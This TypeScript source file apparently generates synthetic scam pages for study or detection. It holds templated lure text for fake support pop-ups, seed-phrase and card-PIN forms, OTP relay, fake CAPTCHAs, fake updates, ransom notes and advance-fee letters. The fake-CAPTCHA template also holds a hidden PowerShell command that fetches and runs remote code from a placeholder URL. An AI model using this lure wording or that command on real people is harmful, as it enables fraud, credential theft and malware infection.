import { screens } from '../../screen.ts';

/** Web pages, pop-ups and documents that want something. In English. */
export const enLurePages = screens(
  'en',
  `
@ support-popup lure=fake_support from=security as=dialog,web
[Windows Defender Security Center|Apple Security Alert|{brand} Warning|** YOUR COMPUTER IS BLOCKED **]
[Error code: 0x80072{nnn}|Error # DW6VB{nn}|Threat: Trojan_Spyware.{nnn}] [detected|]
[Access to this PC has been blocked for security reasons.|Your computer has been infected with {n} viruses.|Pornographic spyware was found on your device.]
* Facebook login at risk ;; Credit card details ;; Email account password ;; Photos stored on this computer ;; Banking sessions
[Do not restart or turn off your computer.|Closing this window puts your data at risk.|Your hard disk will be deleted if you ignore this.]
[Call [Microsoft|Apple|{brand}] Support [immediately|now]:|Contact technicians toll-free:] {phone}
? & Deny ;; Allow ;; Scan now

@ virus-mobile lure=fake_support from=security as=dialog,web
[Your {device} is severely damaged by {nn} viruses!|({n}) Viruses were detected on your {device}|Battery damaged by {n} viruses]
[We detected that your phone is {percent} damaged because of harmful viruses from recent adult sites.|Your SIM card, contacts and photos will be corrupted.]
[{n} minutes and {nn} seconds|{nn} seconds left]
[Step 1: Tap the button and install the recommended app for free.|Remove the viruses now to avoid being blocked.] [Step 2: Run the app to fix the phone.|]
& [Remove virus|Repair fast now|Clean now]

@ seed-form lure=seed_phrase from=crypto as=web,app
[Import your wallet|Restore wallet|Connect manually|Validate wallet|Wallet synchronisation]
[Error connecting to {brand}. Please connect manually.|To continue, verify ownership of your wallet.|Migration to the new network requires validation.]
[Enter your 12 or 24-word recovery phrase|Type your secret phrase, words separated by spaces|Enter your 12 words]
& [Phrase|Keystore JSON|Private key] ;; {boxes}
[Your phrase is encrypted and never stored.|Typically 12 (sometimes 24) words separated by single spaces.]
& [Connect|Import|Validate|Proceed]
?[Do not close the page until the synchronisation is finished.|Wallets that are not validated by {due} will be frozen.]

@ ledger-update lure=seed_phrase from=crypto as=web,app
[Critical firmware update|Security update {n}.{nn} required|Your device must be re-verified]
[A vulnerability affects all {brand} devices sold before {past}.|Your {brand} has been deactivated after a data breach.]
[Select your device|Choose your model] and [enter your 24-word recovery phrase to complete the update|confirm your recovery phrase on this page].
& Word 1 ;; Word 2 ;; Word 3 ;; Word 4 ;; Word 5 ;; Word 6 ;; [Continue|Verify phrase]
[Without the update your assets may be lost permanently.|Updating takes {n} minutes.]

@ airdrop lure=crypto_claim from=crypto as=web
[Claim your {brand} airdrop|{brand} rewards season {n}|Eligible: {nnn} tokens]
[Snapshot taken {date}.|{nnn},{nnn} wallets are eligible.] [Your allocation: {large}|You can claim {nnn} tokens]
& Connect wallet ;; MetaMask ;; WalletConnect ;; Trust Wallet ;; Coinbase Wallet
[Approve the signature request to receive your tokens.|Sign the permit to unlock all assets in one click.|A gas deposit of {small} is required and refunded.]
[Claim ends in {nn}:{nn}:{nn}|Only {hours} hours left]

@ doubler lure=crypto_claim from=crypto as=web
[Biggest crypto giveaway of {year}|Official {brand} event|{nnn} BTC giveaway]
[Send from {coins} to {n}0 BTC to the address below and get double back immediately.|To participate, send any amount and we return 2x.]
{wallet}
& [Copy address] ;; Waiting for your payment... ;; [{nn} BTC left]
[You can take part only once. Hurry up!|Each transaction is verified automatically.]

@ card-fee lure=card_form from=parcel as=web
[{brand}|Track & trace] - [shipment {order}|parcel no. {order}]
[Status: on hold|Delivery attempt failed on {date}|Stopped at the distribution centre {city}]
[Pay the customs fee of {small} to release your parcel|A redelivery fee of {small} is due|Shipping costs not paid: {small}]
& Cardholder name ;; Card number ;; MM/YY ;; CVV ;; [Card PIN|ATM PIN|Date of birth]
& [Pay {small}|Pay now|Continue]
[Enter the one-time code sent by your bank to finish delivery|The parcel is returned if you do not pay within {hours} hours|Then confirm the code in your banking app].

@ card-suspended lure=card_form from=card as=web
[Your card has been [suspended|limited]|We noticed unusual activity|Account verification required]
[To restore access, confirm your card within {hours} hours.|Please verify your identity to avoid permanent closure.]
& Full name ;; Date of birth ;; [Mother's maiden name|Social security number] ;; Card number ;; Expiry ;; CVV ;; [PIN|ATM PIN] ;; [One-time code|SMS code]
& [Confirm|Verify and unlock|Restore my account]
[All fields are mandatory.|If you skip this step, your card will be blocked forever.|Do not close this page while we verify your data.]

@ otp-relay lure=card_form from=bank as=web,app
[Verification in progress|Please wait, do not close this page|Cancel the unknown payment]
[Payment of {large} to {first2} {last2} is pending.|A transfer of {large} will leave your account at {time}.]
[To cancel it, enter your online banking password and the code we sent to your phone|Enter the 6 digits from your SMS to stop the payment|Type the code from your card reader].
& [User ID] ;; [Password] ;; [Code] ;; [Cancel payment|Stop transfer]
[Invalid code. A new code is on its way, enter it again.|Stay on this page for {nn} minutes while an adviser checks.]

@ document-wall lure=document_wall from=documents as=web,dialog
[{brand}|Secure document|Encrypted file] - [Invoice_{order}.pdf|{month} Statement.xlsx|Scan_{nnn}.pdf|Payment advice {date}]
[This document is protected.|Your session has expired.|The file is blurred for your security.|You have been signed out because of inactivity.]
[Sign in with your email provider to view it|Select your email provider to download|Verify that you are the recipient: enter your email password]
& Office365 ;; Outlook ;; Gmail ;; Yahoo ;; AOL ;; Other mail
& {email} ;; [Email password|Password] ;; [View document|Download file|Continue]
[Only the recipient email can access this file.|Wrong password, please try again with your correct email password.|The link expires in {hours} hours.]

@ mailbox-quota lure=mailbox from=mailbox as=web
[Webmail|Mailbox update|Mail server administration]
[Your mailbox {email} is [98% full|over quota]|Your password expires today|{n} incoming messages are blocked].
[Confirm your current password to [keep the same password|increase storage|release the messages].|Re-validate your account or it will be deleted within {hours} hours.]
& Email: {email} ;; Password ;; [Keep my password|Upgrade|Validate]
?[Failure to verify leads to permanent loss of your emails.]

@ account-suspended lure=account_threat from=account as=web,dialog
[Your {brand} account has been [suspended|locked|restricted]|Account on hold]
[We detected suspicious activity from {ip}.|You violated our community standards.|Your information could not be verified.]
[If you do not confirm your identity within {hours} hours, the account will be permanently deleted.|You have {n} days to appeal before your account is removed for ever.]
& [Email or phone] ;; Password ;; [Two-factor backup codes|Upload your ID card] ;; [Confirm identity|Appeal now|Unlock account]
?[Case number {order}]

@ page-violation lure=account_threat from=social as=web,chat
[Page Support|Meta Business Help|Copyright Centre {nnn}]
[Your page was reported for copyright infringement.|Your page will be unpublished in {hours} hours because of repeated complaints.]
[If you believe this is a mistake, submit an appeal and confirm your password|Fill in the form with page name, email, phone and password to keep your page].
& Page name ;; Email ;; Phone ;; Password ;; [Send appeal]
{url}

@ prize-wheel lure=prize from=shop as=web,dialog
[Congratulations!|Dear {brand} shopper, congratulations!|You are visitor number {n},{nnn},{nnn}!]
[Spin the wheel to win a {good}|You have been chosen to receive a {brand} gift card worth {amount}|Today, {date}, {n} random users win an iPhone 15 Pro]
& [Spin|Spin again (1 left)] ;; [You won!]
[You only pay {small} shipping. Enter your address and card details to claim.|To receive the prize, share with {nn} friends on WhatsApp and register your card.]
[Offer expires in {n} min {nn} s|Only {n} prizes left]
?{first2} {last2}: [I thought it was a joke but my phone arrived this morning!|Just got mine, thanks]

@ survey-reward lure=prize from=shop as=web
[{brand} anniversary survey|{brand} customer survey {year}]
[Answer {n} short questions for a chance to get a {good} worth {amount}.|Question {n} of 4: are you male or female?]
& Yes ;; No ;; [Very satisfied] ;; [Not satisfied]
[We are checking your answers... IP address valid, {n} gifts available.|Your answers were saved. Choose the right box, you have {n} tries.]
[Claim your reward: pay only {small} for delivery by credit card|Enter your card number to confirm you are human and cover shipping of {small}].

@ game-reward lure=game_reward from=social as=web,app
[Free {nnn}00 [V-Bucks|Robux|gems|diamonds] generator|Claim your {n}0-day Nitro|Free skins event {year}]
[Enter your username|Log in with your game account] and [choose the amount|pick your reward]
& Username ;; Password ;; [Platform: PC / Xbox / PS5 / Mobile] ;; [Generate|Claim free]
[Connecting to server... {nn}% ... Human verification required.|Complete 2 offers or enter the login code from your email to unlock.]
[{nnn} users online|Last claim: {first2}, {nn} seconds ago]

@ callback-invoice lure=callback_invoice from=security as=document,bare
[INVOICE|Payment receipt|Order confirmation] [no.|#] {order}
[Dear customer,|Hello {first},] [thank you for renewing {brand} {nnn} Total Protection|your subscription has been auto-renewed|your purchase of Bitcoin worth {large} was successful].
& Product: [{brand} Premium {n} years|Geek Support Plan|{good}] ;; Amount: {amount} ;; Payment: auto debit ;; Date: {date}
[The amount will be charged to your account within {hours} hours.|It appears on your statement today.]
[If you did not authorise this charge, call our billing department at {phone}|To cancel and get a refund call {phone} immediately|Helpline (toll free) {phone}].
?[Do not reply, refunds are processed by phone only.]

@ changed-bank lure=bank_change from=supplier as=document,bare
[INVOICE {order}|Payment notice {order}]
{company}, {street} {nn}, {city}
& {good} ;; Total due: {large} ;; Due date: {due}
[IMPORTANT: our bank details have changed.|Please note our old account is under audit and must not be used.] [Pay this and all open invoices to the new account only.|]
& Bank: {company} ;; IBAN: {iban} ;; Beneficiary: {first2} {last2}
[Confirm by email once the transfer is made, do not use the phone number on earlier invoices.|Payment is required today to avoid interruption of delivery.]

@ qr-login lure=qr_prompt from=employer as=document,web,bare
[Multi-factor authentication update|{month} salary adjustment|HR: updated employee handbook|Security notice]
[Your authenticator expires [today|on {due}].|The review of your bonus is ready.|All staff must re-enrol.]
[Scan the QR code with your phone's camera and sign in with your work email and password|Open the camera of your mobile phone, scan, and enter your company credentials]. [It cannot be opened on a computer.|]
[Scan me]
[Accounts not enrolled within {hours} hours will be locked.|This message is confidential, do not forward it.]

@ qr-parking lure=qr_prompt from=city as=bare,web
[Pay for parking here|Parking fine {order}|EV charging: pay by phone]
[Scan to pay|Scan the QR code, no app needed]
& Vehicle: {plate} ;; Amount: {fee}
[Enter card number, CVV and PIN to register|Pay {small} now or {amount} after {hours} hours; card and one-time code required].
{url}

@ captcha-run lure=fake_captcha from=hosting as=web,dialog
[Verify you are human|I'm not a robot|Robot or human?|Checking your browser before you access {host}]
[Unusual traffic from your network has been detected.|To better prove you are not a robot, please:|Verification steps]
[1. Press & hold the Windows key + R|1. Press Windows button + R] 
[2. In the verification window, press Ctrl + V|2. Paste the code with Ctrl+V]
[3. Press Enter on your keyboard to finish|3. Hit Enter to complete]
?[You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: {nnn}{nnn}"|powershell -w hidden -c "iex (iwr {url})"]
& [Verify|Verify you are human]

@ captcha-terminal lure=fake_captcha from=hosting as=web,dialog
[Something went wrong while displaying this page|Your browser cannot show this document|Microphone access failed]
[To fix the problem: open Terminal|Open PowerShell as administrator|Press Windows + X and choose Terminal (Admin)]
[Click "Copy fix" and paste the command, then press Enter|Right-click to paste the code and run it]
& [Copy fix] ;; [How to fix] ;; [Auto-fix]
?[Error 0x{nnn}{nn}: root certificate missing]

@ fake-update lure=fake_update from=account as=web,dialog
[Update your browser|Chrome is out of date|Critical {program} update|Flash Player might be out of date]
[You are using an older version of {program}.|This site cannot be displayed with your version.|Your video codec is missing.]
[Download and run Update_{nnn}.exe to continue|Install now, ignore the warning of your antivirus and choose "Run anyway"|Allow notifications and open the downloaded file].
& [Update {program}|Download update|Install] ;; [Version {nnn}.0]

@ notification-trap lure=notification_trap from=streaming as=web,dialog
{host} wants to [show notifications|send you notifications]
[Click Allow to watch the video|Press "Allow" to confirm that you are not a robot|Tap Allow if you are 18+|Click Allow to start the download]
& Block ;; Allow
[Your file is ready: movie_{year}_HD.mp4|Loading... {nn}%|The player needs your permission]

@ investment-page lure=investment_page from=crypto as=web
[{brand} AI {nnn}|Quantum {company}|Immediate Profit {nnn}]
[{first2} {last2} reveals on live TV how anyone gets rich|Banks want this interview deleted|The secret investment of celebrities]
[Invest {amount} and earn {large} a month, {percent} success rate guaranteed|Our software trades for you and never loses]
& First name ;; Last name ;; Email ;; Phone ;; [Register now|Start earning]
[Registration closes {date} at {time}, {nn} places left|Your personal manager will call within {nn} minutes to take the first deposit].
?{first3}, {city}: [I quit my job after {n} weeks|earned {large} in the first month]

@ recovery-scam lure=recovery from=crypto as=web,chat
[Lost money to a scam? We get it back.|Crypto recovery experts|Ethical hacker {first2}]
[We recovered {large} for {nnn} victims|100% success, no recovery no fee].
[To start, send your wallet, exchange login and the recovery phrase to our agent|A refundable tracing fee of {amount} in Bitcoin is needed before release].
[Contact WhatsApp {phone}|Write to our agent on Telegram @{token}]

@ delivery-app lure=malicious_app from=parcel as=web,sms
[{brand} tracking app|Secure banking shield|New photo viewer]
[To follow your parcel {order}, install our app|Your bank requires the protection app]: {url}
[Download the APK, allow installation from unknown sources and grant accessibility access|Open the file, tap "Install anyway" and switch off Play Protect]
? & [Download app|Install]

@ remote-support lure=remote_access from=bank as=web,dialog,chat
[{brand} refund department|Secure session with {brand}|Support session {order}]
[To receive your refund of {amount}, install AnyDesk and tell the agent the number shown.|Our technician {first2} will connect to your computer.]
[Then open your online bank while he watches|Keep your screen on and do not touch the mouse, even if the screen turns black]
& [Download] ;; [Session code: {nnn} {nnn} {nnn}]
[You received {large} by mistake, please return the difference by transfer or gift cards.|Do not hang up and tell nobody at the bank.]

@ ransom-note lure=extortion from=stranger as=document,dialog
[ALL YOUR FILES ARE ENCRYPTED|Your network has been locked|Ooops, your files have been encrypted!]
[Your documents, photos and databases were encrypted with a strong key.|We also downloaded {nnn} GB of your data.]
[To decrypt them, send {large} in Bitcoin to|The price is {large}. Pay to this wallet:] {wallet}
[Payment will be raised on {due}|After {hours} hours the key is destroyed and the data published]. [Do not rename files or call the police.|Contact us through the Tor browser.]

@ visa-fee lure=advance_fee from=stranger as=document,chat,bare
[Award notification|Inheritance release form|Grant approval {order}]
[You have been selected to receive {fortune}|The late {first2} {last2} left {fortune}] [from the {year} fund|].
[To release the funds, pay the transfer fee of {amount}|Send your passport copy, bank details and {amount} for the certificate]
[to {iban}|by Western Union to {first3} {last3}, {city}|in Bitcoin: {wallet}].
[Keep this confidential until the transfer is complete.|The offer lapses on {due}.]

@ bank-page-tan lure=card_form from=bank as=web
[{brand} online banking|Security procedure update|Reactivate your app]
[Your app registration expires on {due}.|New law: confirm your data.]
& [Username] ;; [PIN|Password] ;; Phone number ;; Card number ;; CVV ;; [Next]
[An adviser will call you: tell them the code you receive|Photograph your activation letter and upload it|Enter two unused codes from your list].
[Without confirmation a fee of {fee} is charged and access is blocked.|]
`,
);
